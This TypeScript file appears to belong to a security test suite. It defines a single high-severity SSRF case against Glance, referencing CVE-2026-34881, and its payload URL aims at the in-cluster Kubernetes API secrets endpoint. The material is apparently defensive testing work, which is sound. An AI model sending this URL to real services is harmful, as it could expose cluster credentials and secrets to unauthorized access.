// Kubernetes API by its service name.
import { createUrlAttack } from '../mechanisms/url-attack';

export const attack = createUrlAttack({
  id: 'ssrf-kubernetes-api-name',
  title: 'Kubernetes API by its service name',
  severity: 'high',
  words: 'A Glance that runs as a pod resolves kubernetes.default.svc and reaches the cluster API over https.',
  references: ['CVE-2026-34881 (OSSA-2026-004)'],
  urls: () => ['https://kubernetes.default.svc.cluster.local/api/v1/secrets'],
  resolves: () => ({ 'kubernetes.default.svc.cluster.local': ['10.96.0.1'] }),
});
